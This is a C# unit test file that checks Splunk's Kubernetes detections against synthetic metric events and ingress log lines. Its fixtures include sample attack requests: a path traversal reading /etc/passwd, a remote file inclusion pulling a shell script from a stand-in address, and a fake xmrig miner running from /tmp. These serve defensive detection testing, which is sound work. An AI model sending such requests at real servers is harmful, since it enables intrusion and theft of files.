using System.Globalization;
using System.Text.Json;
using Saker.Content;
using Saker.Detections;
using Saker.Spl.Syntax;
using Saker.Spl.Text;
using Xunit;

namespace Saker.Tests.Content;

/// <summary>
/// Splunk's Kubernetes detections that compare with a baseline, join, append or look up, each on events of ours that it must tell and on events that
/// are nearly so. The searches are read from the clones in <c>SAKER_CORPUS</c>; nothing of them is kept here.
/// </summary>
public sealed class KubernetesMetricDetectionTests
{
    private static readonly DateTimeOffset Now = new(2026, 3, 14, 12, 0, 0, TimeSpan.Zero);

    private static readonly Dictionary<string, string> Node = new() { ["k8s.cluster.name"] = "prod", ["k8s.node.name"] = "node1", ["host.name"] = "node1" };

    public static TheoryData<string> Stems() => [.. Cases().Keys];

    [Theory]
    [MemberData(nameof(Stems))]
    public async Task It_tells_the_attack_and_not_what_is_nearly_one(string stem)
    {
        var test = Cases()[stem];
        foreach (var (library, detection) in DetectionTrial.Published(stem))
        {
            Assert.NotEmpty(await RunAsync(library, detection.Search, test.Baseline, test.Positive));
            var rows = await RunAsync(library, detection.Search, test.Baseline, test.Negative);
            Assert.True(rows.Count == 0, string.Join('\n', rows));
        }
    }

    private static Dictionary<string, Case> Cases()
    {
        var edge = With(("source.workload.name", "web"), ("dest.workload.name", "db"), ("source.process.name", "nginx"), ("dest.process.name", "postgres"));
        var process = With(("process.executable.name", "nginx"), ("process.executable.path", "/usr/sbin/nginx"), ("process.pid", "7"));
        var miner = With(("process.executable.name", "xmrig"), ("process.executable.path", "/tmp/xmrig"), ("process.pid", "8"));
        var shell = With(("process.executable.name", "bash"), ("process.pid", "9"));
        var image = With(("container.image.name", "nginx"));
        var unknownImage = With(("container.image.name", "evil"));
        var traffic = Past("tcp.packets", edge, 10, 12);
        var usage = Past("process.cpu.utilization", process, 10, 12).Concat(Past("process.memory.utilization", process, 50, 50)).ToList();
        var calm = Recent("process.memory.utilization", process, 7, 50);
        return new()
        {
            ["kubernetes_anomalous_inbound_network_activity_from_process"] = new(null, [.. traffic, .. Recent("tcp.packets", edge, 7, 100)], [.. traffic, .. Recent("tcp.packets", edge, 7, 13)]),
            ["kubernetes_anomalous_outbound_network_activity_from_process"] = new(null, [.. traffic, .. Recent("tcp.packets", edge, 6, 100)], [.. traffic, .. Recent("tcp.packets", edge, 5, 100)]),
            ["kubernetes_anomalous_traffic_on_network_edge"] = new(null, [.. traffic, .. Recent("tcp.packets", edge, 7, 100)], [.. traffic, .. Recent("tcp.packets", edge, 7, 11)]),
            ["kubernetes_newly_seen_tcp_edge"] = new(null, Recent("tcp.packets", edge, 1, 1), [.. traffic, .. Recent("tcp.packets", edge, 1, 1)]),
            ["kubernetes_newly_seen_udp_edge"] = new(null, Recent("udp.packets", edge, 1, 1), [.. Past("udp.packets", edge, 1, 1), .. Recent("udp.packets", edge, 1, 1)]),
            ["kubernetes_previously_unseen_process"] = new(null, [.. usage, .. Recent("process.memory.utilization", miner, 1, 1)], [.. usage, .. calm]),
            ["kubernetes_process_running_from_new_path"] = new(
                null,
                [.. usage, .. Recent("process.memory.utilization", With(process, ("process.executable.path", "/tmp/nginx")), 1, 1)],
                [.. usage, .. calm]),
            ["kubernetes_previously_unseen_container_image_name"] = new(
                null,
                [.. Past("k8s.container.ready", image, 1, 1), .. Recent("k8s.container.ready", unknownImage, 1, 1)],
                [.. Past("k8s.container.ready", image, 1, 1), .. Recent("k8s.container.ready", image, 1, 1)]),
            ["kubernetes_process_with_anomalous_resource_utilisation"] = new(
                "Baseline Of Kubernetes Process Resource",
                [.. usage, .. Recent("process.cpu.utilization", process, 6, 95), .. calm],
                [.. usage, .. Recent("process.cpu.utilization", process, 5, 95), .. calm]),
            ["kubernetes_process_with_resource_ratio_anomalies"] = new(
                "Baseline Of Kubernetes Process Resource Ratio",
                [.. usage, .. Recent("process.cpu.utilization", process, 7, 95), .. calm],
                [.. usage, .. Recent("process.cpu.utilization", process, 7, 12), .. calm]),
            ["kubernetes_anomalous_inbound_outbound_network_io"] = new("Baseline Of Kubernetes Container Network IO", [.. Io(past: true, 10), .. Io(past: false, 900)], [.. Io(past: true, 10), .. Io(past: false, 11)]),
            ["kubernetes_anomalous_inbound_to_outbound_network_io_ratio"] = new(
                "Baseline Of Kubernetes Container Network IO Ratio", [.. Io(past: true, 10), .. Io(past: false, 900)], [.. Io(past: true, 10), .. Io(past: false, 11)]),
            ["kubernetes_shell_running_on_worker_node"] = new(null, Recent("process.memory.utilization", shell, 1, 0.2), [.. Recent("process.memory.utilization", process, 1, 0.2), .. Recent("process.cpu.utilization", shell, 1, 0)]),
            ["kubernetes_shell_running_on_worker_node_with_cpu_activity"] = new(null, Recent("process.cpu.utilization", shell, 1, 0.2), Recent("process.cpu.utilization", shell, 1, 0)),
            ["kubernetes_nginx_ingress_lfi"] = new(null, [Request("/download?file=../../../etc/passwd")], [Request("/download?file=passwords.html")]),
            ["kubernetes_nginx_ingress_rfi"] = new(null, [Request("/include?page=http://192.0.2.7/shell.txt")], [Request("/include?page=http://example.com/v1.2.3/page.txt")]),
        };
    }

    private static async Task<List<string>> RunAsync(ContentLibrary library, SourceText search, string? baseline, IReadOnlyList<string> lines)
    {
        var lookups = new ContentLookups(library);
        var (hour, now) = (Epoch(Now.AddHours(-1)), Epoch(Now));
        var settings = new ScanSettings { Now = Now, Lookups = lookups };
        if (baseline is not null)
        {
            var found = Assert.Single(library.Baselines, b => b.Name == baseline);
            await DetectionTrial.RunAsync(library, found.Search, lines, settings with { Latest = hour });
        }

        return await DetectionTrial.RunAsync(library, search, lines, baseline is null ? settings : settings with { Earliest = hour, Latest = now });
    }

    private static TimeModifier Epoch(DateTimeOffset time) => TimeModifier.TryParse(time.ToUnixTimeSeconds().ToString(CultureInfo.InvariantCulture), out var epoch) ? epoch : throw new InvalidOperationException();

    /// <summary>A point every hour of two days, from two hours ago, that swings between two values.</summary>
    private static List<string> Past(string metric, Dictionary<string, string> dimensions, double low, double high) =>
        [.. Enumerable.Range(2, 48).Select(h => Metric(metric, h % 2 == 0 ? low : high, Now.AddHours(-h), dimensions))];

    /// <summary>Points ten seconds apart, the last a minute ago.</summary>
    private static List<string> Recent(string metric, Dictionary<string, string> dimensions, int points, double value) =>
        [.. Enumerable.Range(0, points).Select(i => Metric(metric, value, Now.AddMinutes(-1).AddSeconds(-10 * i), dimensions))];

    private static IEnumerable<string> Io(bool past, double received)
    {
        var (receive, transmit) = (With(("k8s.pod.name", "web-5d4f8c7b9d-abcde"), ("direction", "receive")), With(("k8s.pod.name", "web-5d4f8c7b9d-abcde"), ("direction", "transmit")));
        return past
            ? Past("k8s.pod.network.io", receive, received, received + 2).Concat(Past("k8s.pod.network.io", transmit, 12, 10))
            : Recent("k8s.pod.network.io", receive, 7, received).Concat(Recent("k8s.pod.network.io", transmit, 7, 11));
    }

    private static Dictionary<string, string> With(params (string Name, string Value)[] dimensions) => With(Node, dimensions);

    private static Dictionary<string, string> With(Dictionary<string, string> basis, params (string Name, string Value)[] dimensions)
    {
        var all = new Dictionary<string, string>(basis);
        foreach (var (name, value) in dimensions)
        {
            all[name] = value;
        }

        return all;
    }

    private static string Metric(string name, double value, DateTimeOffset time, Dictionary<string, string> dimensions)
    {
        var fields = new Dictionary<string, object>(dimensions.Select(d => new KeyValuePair<string, object>(d.Key, d.Value))) { ["metric_name:" + name] = value };
        return JsonSerializer.Serialize(new Dictionary<string, object> { ["time"] = time.ToUnixTimeSeconds(), ["event"] = "metric", ["fields"] = fields });
    }

    private static string Request(string path) => JsonSerializer.Serialize(new Dictionary<string, object>
    {
        ["time"] = Now.AddMinutes(-1).ToUnixTimeSeconds(),
        ["host"] = "node1",
        ["source"] = "ingress",
        ["sourcetype"] = "kube:container:controller",
        ["event"] = $"192.0.2.9 - - [14/Mar/2026:11:59:00 +0000] \"GET {path} HTTP/1.1\" 200 612 \"-\" \"curl/8.0\" 90 0.001 [default-web-80] [] 10.0.0.5:80 612 0.001 200 0f3c",
    });

    private sealed record Case(string? Baseline, IReadOnlyList<string> Positive, IReadOnlyList<string> Negative);
}
